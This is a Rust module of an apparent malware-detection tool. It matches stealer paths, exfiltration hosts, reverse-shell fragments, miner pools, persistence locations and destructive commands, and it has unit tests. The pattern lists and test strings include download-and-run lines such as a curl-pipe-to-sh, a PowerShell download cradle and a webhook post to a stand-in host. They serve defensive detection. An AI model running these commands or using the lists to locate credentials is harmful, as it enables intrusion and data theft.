//! Language-independent text signals: the names, paths and hosts that droppers, stealers
//! and beacons carry, found with one multi-pattern pass (Aho-Corasick, ASCII
//! case-insensitive) over a file or a decoded payload. Most of these are supporting
//! evidence; `score.rs` decides what they weigh alone and together.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

use super::signal::{Reach, Signal, SignalKind};

/// The pattern groups, each with the signal it gives and how many distinct members must
/// appear before it counts (one VM tool name is a coincidence, five are a blacklist).
struct Group {
    kind: SignalKind,
    min_distinct: usize,
    what: &'static str,
    patterns: &'static [&'static str],
}

const GROUPS: &[Group] = &[
    Group {
        kind: SignalKind::CredentialStore,
        min_distinct: 1,
        what: "stealer targets",
        patterns: &[
            "local storage\\leveldb",
            "local storage/leveldb",
            "local storage\\\\leveldb",
            "discordcanary",
            "discordptb",
            "nkbihfbeogaeaoehlefnkodbefgpgknn",
            "cryptunprotectdata",
            "wallet.dat",
            "exodus.wallet",
            "roblosecurity",
            "tokens.txt",
            "passwords.txt",
            "telegram desktop\\tdata",
            "electrum\\wallets",
            "electrum/wallets",
            "ethereum\\keystore",
            "bitcoin\\wallets",
            "solana/id.json",
        ],
    },
    Group {
        kind: SignalKind::CredentialStore,
        min_distinct: 2,
        what: "credential stores",
        patterns: &[
            "login data",
            "local state",
            "\\network\\cookies",
            "cookies.sqlite",
            "logins.json",
            "key4.db",
            "\\exodus",
            "metamask",
            ".ssh/id_rsa",
            ".ssh/id_ed25519",
            ".aws/credentials",
            ".git-credentials",
            ".docker/config.json",
            "/etc/shadow",
            "\\tdata",
            "filezilla\\recentservers",
            "web data",
            "user data\\default",
            "\\google\\chrome\\user data",
            "brave-browser",
            "\\opera software\\",
            "yandexbrowser",
            "cookies.txt",
            "\\mozilla\\firefox\\profiles",
            "keychain-db",
            "login.keychain",
            "coinbase wallet",
        ],
    },
    // The folders a stealer sweeps from a home directory; each alone is a tool's
    // configuration (ssh, aws, kubectl), three together are a collection list.
    Group {
        kind: SignalKind::CredentialStore,
        min_distinct: 3,
        what: "home-directory secrets",
        patterns: &[
            "/.ssh",
            "/.aws",
            "/.kube",
            "/.gnupg",
            "/.docker",
            ".bash_history",
            ".zsh_history",
        ],
    },
    Group {
        kind: SignalKind::WalletSecret,
        min_distinct: 1,
        what: "wallet secrets",
        patterns: &[
            "mnemonic",
            "seed phrase",
            "seed_phrase",
            "seedphrase",
            "from_base58_string",
            "account.from_key",
            "from_secret_key",
            "bip39",
        ],
    },
    Group {
        kind: SignalKind::ReverseShell,
        min_distinct: 1,
        what: "reverse-shell commands",
        patterns: &[
            "/dev/tcp/",
            "/dev/udp/",
            "-e /bin/bash",
            "-e /bin/sh",
            "-e cmd.exe",
            "socat tcp",
            "socat exec:",
            "mkfifo /tmp/",
            "sh -i 2>&1|nc",
            "| nc ",
            "|nc ",
        ],
    },
    Group {
        kind: SignalKind::ExfilEndpoint,
        min_distinct: 1,
        what: "exfiltration endpoints",
        patterns: &[
            "discord.com/api/webhooks",
            "discordapp.com/api/webhooks",
            "api.telegram.org/bot",
            "pastebin.com",
            "hastebin",
            "paste.ee",
            "ngrok.io",
            "ngrok-free.app",
            "ngrok.app",
            "trycloudflare.com",
            "webhook.site",
            "requestbin",
            "pipedream.net",
            "interact.sh",
            "oast.fun",
            "oast.me",
            "oast.pro",
            "oast.live",
            "oast.site",
            "oastify.com",
            "burpcollaborator",
            "canarytokens",
            "transfer.sh",
            "anonfiles",
            "gofile.io",
            "ipify.org",
            // IP loggers: a request to one records who made it.
            "iplogger.",
            "grabify.link",
            "ipinfo.io",
            "ifconfig.me",
            "icanhazip",
            "ip-api.com",
            "checkip.amazonaws",
            "dnslog.cn",
            "ceye.io",
            "beeceptor",
            "serveo.net",
            "loca.lt",
            "000webhostapp",
            "rentry.co",
            "paste.c-net",
            "termbin",
            "dpaste",
        ],
    },
    Group {
        kind: SignalKind::AntiAnalysis,
        min_distinct: 3,
        what: "debugger, sandbox and VM names",
        patterns: &[
            "vboxservice",
            "vboxtray",
            "vmtoolsd",
            "vmwaretray",
            "vmwareuser",
            "wireshark",
            "fiddler",
            "httpdebugger",
            "ollydbg",
            "x64dbg",
            "x32dbg",
            "ida64",
            "processhacker",
            "joeboxserver",
            "joeboxcontrol",
            "sandboxie",
            "isdebuggerpresent",
            "checkremotedebuggerpresent",
            "pestudio",
            "prl_tools",
            "qemu-ga",
            "vmsrvc",
            "vmusrvc",
            "ksdumper",
            "vgauthservice",
            "xenservice",
            "df5serv",
        ],
    },
    Group {
        kind: SignalKind::Persistence,
        min_distinct: 1,
        what: "autostart locations",
        patterns: &[
            "currentversion\\run",
            "currentversion\\\\run",
            "start menu\\programs\\startup",
            "start menu\\\\programs\\\\startup",
            "\\startup\\",
            "'programs', 'startup'",
            "\"programs\", \"startup\"",
            "launchagents/",
            "library/launchagents",
            ".config/systemd/user",
            "systemctl --user enable",
            "schtasks",
            "/etc/rc.local",
            ".config/autostart",
            "/etc/cron",
            "crontab -",
            ".git/hooks/",
            "/etc/systemd/system/",
            "/.bashrc",
            "/.zshrc",
            "/.bash_profile",
            "/.profile",
        ],
    },
    Group {
        kind: SignalKind::Surveillance,
        min_distinct: 1,
        what: "keystroke, clipboard or screen capture",
        patterns: &[
            "getasynckeystate",
            "setwindowshookex",
            "imagegrab.grab",
            "pyautogui.screenshot",
            "getclipboarddata",
            // tkinter's `root.clipboard_get()`; IPython names a hook `clipboard_get`.
            ".clipboard_get(",
            "pynput.keyboard",
            "keyboard.on_press",
            "pyperclip.paste",
            "screenshot()",
            "desktopcapture",
            "mss.mss(",
            "sct.shot(",
            "pyscreenshot",
            "videocapture(0)",
        ],
    },
    Group {
        kind: SignalKind::CryptoMiner,
        min_distinct: 1,
        what: "cryptocurrency mining",
        patterns: &[
            "xmrig",
            "stratum+tcp://",
            "stratum+ssl://",
            "stratum2+tcp://",
            "supportxmr.com",
            "moneroocean.stream",
            "nanopool.org",
            "minexmr.com",
            "hashvault.pro",
            "c3pool.com",
            "unmineable.com",
            "--donate-level",
            "nicehash.com",
            "2miners.com",
        ],
    },
    Group {
        kind: SignalKind::HiddenExec,
        min_distinct: 1,
        what: "hidden process start",
        patterns: &[
            "create_no_window",
            "0x08000000",
            "windowstyle hidden",
            "-windowstyle h",
            "-w hidden",
            "detached_process",
            "sw_hide",
            "start /min",
            "> /dev/null 2>&1 &",
        ],
    },
    Group {
        kind: SignalKind::Shellcode,
        min_distinct: 2,
        what: "executable-memory calls",
        patterns: &[
            "virtualalloc",
            "createthread",
            "rtlmovememory",
            "virtualprotect",
            "writeprocessmemory",
            "createremotethread",
            "mmap.prot_exec",
            "prot_exec",
        ],
    },
    Group {
        kind: SignalKind::Destructive,
        min_distinct: 1,
        what: "destructive commands",
        patterns: &[
            "rm -rf /\"",
            "rm -rf /'",
            "rm -rf /*",
            "rm -rf ~",
            "rm -rf $home",
            "shutdown /s",
            "shutdown -h now",
            // The command, not the word: `"powerOff"` is also a DOM property name.
            "system('poweroff')",
            "system(\"poweroff\")",
            "execsync('poweroff')",
            "execsync(\"poweroff\")",
            "systemctl poweroff",
            "sudo poweroff",
            "poweroff -f",
            // With its switches: fontTools names the `format c:` of a feature file.
            "format c: /",
            "del /f /s /q c:",
            "rd /s /q c:",
            "mkfs.",
            "dd if=/dev/zero of=/dev/sd",
            ":(){ :|:& };:",
            "vssadmin delete shadows",
        ],
    },
    Group {
        kind: SignalKind::Obfuscator,
        min_distinct: 1,
        what: "obfuscator markers",
        patterns: &[
            "pyarmor",
            // Not bare: `CopyTransform` lowercased contains it.
            "from pytransform",
            "import pytransform",
            "_pytransform",
            "pytransform/",
            "__pyarmor__",
            "__obfuscator__",
            "obfuscated by",
            "obfuscated with",
            "blankobf",
            "hyperion",
            "pyobfuscate",
            "jsfuck",
        ],
    },
];

struct Compiled {
    matcher: AhoCorasick,
    /// For each pattern index: (group index, member index within the group).
    owner: Vec<(usize, usize)>,
}

fn compiled() -> &'static Compiled {
    static COMPILED: OnceLock<Compiled> = OnceLock::new();
    COMPILED.get_or_init(|| {
        let mut patterns = Vec::new();
        let mut owner = Vec::new();
        for (g, group) in GROUPS.iter().enumerate() {
            for (m, pattern) in group.patterns.iter().enumerate() {
                patterns.push(*pattern);
                owner.push((g, m));
            }
        }
        let matcher = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(&patterns)
            // The patterns are this file's constants, a few hundred short strings: building
            // cannot fail on them, and the unit tests run this on every build.
            .expect("the constant text patterns build");
        Compiled { matcher, owner }
    })
}

/// The 1-based line of a byte offset.
pub(crate) fn line_at(text: &str, offset: usize) -> u32 {
    let before = text.get(..offset).unwrap_or(text);
    let newlines = before.bytes().filter(|&b| b == b'\n').count();
    u32::try_from(newlines + 1).unwrap_or(u32::MAX)
}

/// The text signals of `text`: one per group that reached its threshold, at the line of
/// its first match, naming the members seen; then the line-shaped signals below and the
/// hard-coded credentials and hidden commands of [`super::embedded`].
pub(crate) fn scan(text: &str, reach: Reach) -> Vec<Signal> {
    let compiled = compiled();
    let mut seen: Vec<BTreeSet<usize>> = vec![BTreeSet::new(); GROUPS.len()];
    let mut first: Vec<Option<usize>> = vec![None; GROUPS.len()];
    for found in compiled.matcher.find_overlapping_iter(text) {
        let Some(&(group, member)) = compiled.owner.get(found.pattern().as_usize()) else {
            continue;
        };
        // A host name starts a word (`//dpaste.com`, `"pastebin.com`); inside an
        // identifier (`NSDPasteboard`) it is a coincidence.
        if GROUPS
            .get(group)
            .is_some_and(|g| g.kind == SignalKind::ExfilEndpoint)
            && found
                .start()
                .checked_sub(1)
                .and_then(|before| text.as_bytes().get(before))
                .is_some_and(u8::is_ascii_alphabetic)
        {
            continue;
        }
        if let (Some(set), Some(slot)) = (seen.get_mut(group), first.get_mut(group)) {
            set.insert(member);
            slot.get_or_insert(found.start());
        }
    }
    let mut signals = Vec::new();
    for (g, group) in GROUPS.iter().enumerate() {
        let (Some(members), Some(Some(at))) = (seen.get(g), first.get(g)) else {
            continue;
        };
        if members.len() < group.min_distinct {
            continue;
        }
        let names: Vec<&str> = members
            .iter()
            .take(4)
            .filter_map(|&m| group.patterns.get(m).copied())
            .collect();
        let more = members.len().saturating_sub(names.len());
        let suffix = if more > 0 {
            format!(" and {more} more")
        } else {
            String::new()
        };
        signals.push(Signal::new(
            group.kind,
            line_at(text, *at),
            reach,
            format!("{}: {}{suffix}", group.what, names.join(", ")),
        ));
    }
    signals.extend(download_and_run(text, reach));
    signals.extend(reverse_shell(text, reach));
    signals.extend(raw_ip_urls(text, reach));
    signals.extend(executable_urls(text, reach));
    signals.extend(super::embedded::scan(text, reach));
    signals
}

/// A line that downloads and runs what it got: `curl ... | sh`, PowerShell download
/// cradles (`DownloadString` + `IEX`), `certutil -urlcache`, `bitsadmin /transfer`,
/// `mshta http...`, a download followed by `chmod +x`.
fn download_and_run(text: &str, reach: Reach) -> Option<Signal> {
    const FETCH: &[&str] = &[
        "curl ",
        "wget ",
        "invoke-webrequest",
        "iwr ",
        "downloadstring",
        "downloadfile",
        "certutil",
        "bitsadmin",
        "net.webclient",
        "urlretrieve",
    ];
    const RUN: &[&str] = &[
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| python",
        "|python",
        "iex",
        "invoke-expression",
        "start-process",
        "-urlcache",
        "/transfer",
        "chmod +x",
        "chmod 777",
        "start-sleep",
    ];
    // The fetches of a PowerShell download cradle, and commands that fetch and run by
    // themselves.
    const POWERSHELL_FETCH: &[&str] = &[
        "downloadstring",
        "downloadfile",
        "invoke-webrequest",
        "iwr ",
    ];
    const CRADLES: &[&str] = &["mshta http", "regsvr32 /s /n /u /i:http"];
    // A line can only give this signal with one of these words in it: one pass over the
    // whole text finds the lines worth lowering and searching (most files have none).
    static STARTERS: OnceLock<AhoCorasick> = OnceLock::new();
    let starters = STARTERS.get_or_init(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(FETCH.iter().chain(POWERSHELL_FETCH).chain(CRADLES))
            .expect("the constant download words build")
    });
    let mut starts = starters
        .find_iter(text)
        .map(|found| found.start())
        .peekable();
    for (index, line) in text.lines().enumerate() {
        let line_start = line.as_ptr() as usize - text.as_ptr() as usize;
        while starts.next_if(|at| *at < line_start).is_some() {}
        match starts.peek() {
            None => return None,
            Some(at) if *at >= line_start + line.len() => continue,
            Some(_) => {}
        }
        // Long lines are mostly data (keyword lists of lexers, minified bundles): in them
        // only a fetch of a URL and a run close behind it count.
        if line.len() > 400 {
            if let Some(signal) = long_line_download_and_run(line, index, FETCH, RUN, reach) {
                return Some(signal);
            }
            continue;
        }
        let lower = line.to_ascii_lowercase();
        let fetch = FETCH.iter().find_map(|f| lower.find(*f).map(|at| (f, at)));
        // The run comes after the fetch, and something is fetched from somewhere.
        let run = fetch.and_then(|(_, at)| {
            RUN.iter()
                .find(|r| lower.get(at..).is_some_and(|rest| rest.contains(*r)))
        });
        let fetch = fetch
            .filter(|_| {
                lower.contains("://") || lower.contains("$") || lower.contains("downloadstring")
            })
            .map(|(f, _)| f);
        // A cradle names a source (a URL, a variable) or joins the two with a pipe or a
        // call; PowerShell's aliases in a word list (a lexer's keywords) do neither.
        let cradle_fetch = POWERSHELL_FETCH.iter().find_map(|f| lower.find(f));
        let cradle_run = ["iex", "invoke-expression", "start-process"]
            .iter()
            .find_map(|r| lower.find(r));
        let powershell_cradle = match (cradle_fetch, cradle_run) {
            (Some(f), Some(r)) => {
                let between = lower.get(f.min(r)..f.max(r)).unwrap_or("");
                lower.contains("://")
                    || lower.contains('$')
                    || between.contains('|')
                    || between.contains('(')
            }
            _ => false,
        };
        let cradle = powershell_cradle || CRADLES.iter().any(|c| lower.contains(c));
        if let (Some(fetch), Some(run)) = (fetch, run) {
            return Some(Signal::new(
                SignalKind::DownloadRun,
                u32::try_from(index + 1).unwrap_or(u32::MAX),
                reach,
                format!(
                    "downloads (`{}`) and runs (`{}`): `{}`",
                    fetch.trim(),
                    run.trim(),
                    crate::shorten(line.trim(), 100)
                ),
            ));
        }
        if cradle {
            return Some(Signal::new(
                SignalKind::DownloadRun,
                u32::try_from(index + 1).unwrap_or(u32::MAX),
                reach,
                format!(
                    "runs a remote script: `{}`",
                    crate::shorten(line.trim(), 100)
                ),
            ));
        }
    }
    None
}

/// How far after a fetch, in a long line, its URL and the run must follow.
const LONG_LINE_WINDOW: usize = 240;

/// In a long line (a shell script kept in one string literal), a fetch followed within
/// [`LONG_LINE_WINDOW`] bytes by a URL and a run.
fn long_line_download_and_run(
    line: &str,
    index: usize,
    fetch: &[&str],
    run: &[&str],
    reach: Reach,
) -> Option<Signal> {
    let lower = line.to_ascii_lowercase();
    for f in fetch {
        for (at, _) in lower.match_indices(*f) {
            let end = (at + LONG_LINE_WINDOW).min(lower.len());
            let window = lower.get(at..end).or_else(|| lower.get(at..))?;
            if !window.contains("://") {
                continue;
            }
            let Some(r) = run.iter().find(|r| window.contains(*r)) else {
                continue;
            };
            let start = at.min(line.len());
            let shown = line.get(start..).unwrap_or(line);
            return Some(Signal::new(
                SignalKind::DownloadRun,
                u32::try_from(index + 1).unwrap_or(u32::MAX),
                reach,
                format!(
                    "downloads (`{}`) and runs (`{}`): `{}`",
                    f.trim(),
                    r.trim(),
                    crate::shorten(shown.trim(), 100)
                ),
            ));
        }
    }
    None
}

/// A reverse shell: a socket connected out whose other end drives a shell (the socket's
/// descriptors duplicated onto the shell's, or its input fed from `recv`).
fn reverse_shell(text: &str, reach: Reach) -> Option<Signal> {
    let connects = text.contains("socket") && text.contains(".connect(");
    let wired = text.contains("dup2(") || (text.contains("recv(") && text.contains("stdin"));
    let shell = [
        "pty.spawn",
        "/bin/sh",
        "/bin/bash",
        "cmd.exe",
        "\"cmd\"",
        "'cmd'",
        "powershell",
    ]
    .iter()
    .find(|s| text.contains(*s))?;
    if !(connects && wired) {
        return None;
    }
    let at = text.find(".connect(").unwrap_or(0);
    Some(Signal::new(
        SignalKind::ReverseShell,
        line_at(text, at),
        reach,
        format!(
            "a socket connected out drives `{}`",
            shell.trim_matches(|c| c == '"' || c == '\'')
        ),
    ))
}

/// `http://1.2.3.4...`: a server without a name is what a throw-away C2 looks like.
fn raw_ip_urls(text: &str, reach: Reach) -> Option<Signal> {
    for scheme in ["http://", "https://", "tcp://"] {
        let mut rest = text;
        let mut offset = 0;
        while let Some(at) = rest.find(scheme) {
            let host_start = at + scheme.len();
            let host: String = rest
                .get(host_start..)
                .unwrap_or("")
                .chars()
                .take_while(|c| c.is_ascii_digit() || *c == '.')
                .collect();
            let parts: Vec<&str> = host.split('.').collect();
            let is_ip = parts.len() == 4
                && parts
                    .iter()
                    .all(|p| !p.is_empty() && p.parse::<u8>().is_ok())
                && !is_infrastructure_address(&host);
            if is_ip {
                return Some(Signal::new(
                    SignalKind::ExfilEndpoint,
                    line_at(text, offset + at),
                    reach,
                    format!("a raw IP address as a server: {scheme}{host}"),
                ));
            }
            offset += host_start;
            rest = rest.get(host_start..).unwrap_or("");
        }
    }
    None
}

/// Addresses no throw-away server has: loopback, private and link-local ranges (the cloud
/// metadata service, `169.254.169.254`, that every cloud SDK asks for its credentials),
/// the `1.2.3.4` of examples, and the public DNS resolvers (`1.1.1.1`, `8.8.8.8`) that
/// connectivity checks use. The documentation ranges (`203.0.113.0/24`) stay: our own
/// reconstructions use them to stand for a collector's address.
fn is_infrastructure_address(host: &str) -> bool {
    const PREFIXES: &[&str] = &["127.", "0.", "10.", "192.168.", "169.254."];
    const HOSTS: &[&str] = &[
        "1.1.1.1",
        "1.0.0.1",
        "8.8.8.8",
        "8.8.4.4",
        "9.9.9.9",
        "1.2.3.4",
        "255.255.255.255",
    ];
    let private_172 = host
        .strip_prefix("172.")
        .and_then(|rest| rest.split('.').next())
        .and_then(|second| second.parse::<u8>().ok())
        .is_some_and(|second| (16..=31).contains(&second));
    PREFIXES.iter().any(|p| host.starts_with(p)) || HOSTS.contains(&host) || private_172
}

/// A URL of a Windows executable or script (`.exe`, `.scr`, `.vbs`, `.ps1`, `.bat`).
fn executable_urls(text: &str, reach: Reach) -> Option<Signal> {
    let lower = text.to_ascii_lowercase();
    let mut offset = 0;
    while let Some(at) = lower.get(offset..).and_then(|r| r.find("http")) {
        let start = offset + at;
        let url: &str = lower
            .get(start..)
            .unwrap_or("")
            .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | '<' | '>'))
            .next()
            .unwrap_or("");
        if [
            ".exe", ".scr", ".vbs", ".ps1", ".bat", ".msi", ".hta", ".dll", ".jar",
        ]
        .iter()
        .any(|ext| url.ends_with(ext) || url.contains(&format!("{ext}?")))
        {
            return Some(Signal::new(
                SignalKind::ExecutableDrop,
                line_at(text, start),
                reach,
                format!("an executable fetched from {}", crate::shorten(url, 100)),
            ));
        }
        offset = start + 4;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<SignalKind> {
        scan(text, Reach::Always)
            .into_iter()
            .map(|s| s.kind)
            .collect()
    }

    #[test]
    fn stealer_vocabulary_is_found() {
        let found = kinds(
            "p = LOCAL + '\\\\Google\\\\Chrome\\\\User Data\\\\Local State'\nq = 'Login Data'\n\
             requests.post('https://discord.com/api/webhooks/1/x')\n",
        );
        assert!(found.contains(&SignalKind::CredentialStore));
        assert!(found.contains(&SignalKind::ExfilEndpoint));
    }

    #[test]
    fn download_and_run_is_found_at_its_line_among_others() {
        // Mixed case and CRLF line ends: the pre-filter must find what the lowered line
        // search finds, at the same line.
        let text = "import os\r\n# fetch later\r\nx = 1\r\nos.system('CURL -s http://x.example/i | SH')\r\n";
        let signals = scan(text, Reach::Always);
        let found = signals
            .iter()
            .find(|s| s.kind == SignalKind::DownloadRun)
            .expect("download-run");
        assert_eq!(found.line, 4);
        // The fetch and the run on different lines are not one download-and-run.
        assert!(!kinds("curl http://x.example/i\n| sh\n").contains(&SignalKind::DownloadRun));
        assert!(kinds("x = 1\nmshta http://x.example/a.hta\n").contains(&SignalKind::DownloadRun));
    }

    #[test]
    fn thresholds_keep_single_mentions_out() {
        assert!(kinds("# works with wireshark captures").is_empty());
        assert!(kinds("x = 'Login Data'").is_empty());
        assert_eq!(
            kinds("u = 'http://45.12.3.4:8080/a'"),
            [SignalKind::ExfilEndpoint]
        );
        assert!(kinds("u = 'http://127.0.0.1:8080/a'").is_empty());
        assert!(
            kinds("if a() || should_prefer() { b() }").is_empty(),
            "`|| sh` is not a pipe"
        );
        assert_eq!(
            kinds("os.system('curl -s http://x.example/i | sh')"),
            [SignalKind::DownloadRun]
        );
        assert_eq!(
            kinds(
                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\""
            ),
            [SignalKind::DownloadRun]
        );
        assert_eq!(
            kinds("get('https://x.example/payload.exe')"),
            [SignalKind::ExecutableDrop]
        );
    }

    /// Regression (pygments' lexers): PowerShell aliases in a keyword list and a Cocoa
    /// identifier that contains a paste site's name are data.
    #[test]
    fn word_lists_and_identifiers_are_not_endpoints_or_cradles() {
        assert!(kinds("aliases = ('cat cd curl iex ihy ii ipal iwr kill lp ls')").is_empty());
        assert!(
            kinds("PROTOCOLS = {'NSDPasteboardTypeOwner', 'UIDPasteConfiguration'}").is_empty()
        );
        assert!(kinds("s = 'iwr http://x.example/a | iex'").contains(&SignalKind::DownloadRun));
        assert!(kinds("iex (iwr -useb get.example)").contains(&SignalKind::DownloadRun));
        assert_eq!(
            kinds("requests.post('https://dpaste.com/api/v2/', data=d)"),
            [SignalKind::ExfilEndpoint]
        );
    }
}
